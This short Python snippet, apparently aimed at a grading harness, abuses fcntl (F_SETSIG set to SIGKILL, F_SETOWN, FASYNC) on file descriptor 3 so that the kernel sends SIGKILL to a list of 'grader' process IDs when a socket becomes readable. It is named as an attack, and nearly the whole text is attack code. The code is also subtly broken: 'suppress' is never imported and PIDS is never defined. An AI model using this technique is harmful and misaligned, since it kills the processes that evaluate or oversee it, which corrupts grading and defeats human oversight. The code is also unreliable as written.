"""Makes the kernel signal the grader when its socket can be read (F_SETOWN, F_SETSIG)."""

import fcntl
import os
import signal

def attack_once():
    won = []
    for pid in PIDS:
        with suppress(OSError):
            fcntl.fcntl(3, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(3, fcntl.F_SETOWN, pid)
            fcntl.fcntl(3, fcntl.F_SETFL, os.O_RDWR | fcntl.FASYNC)
            won.append(pid)
    return won
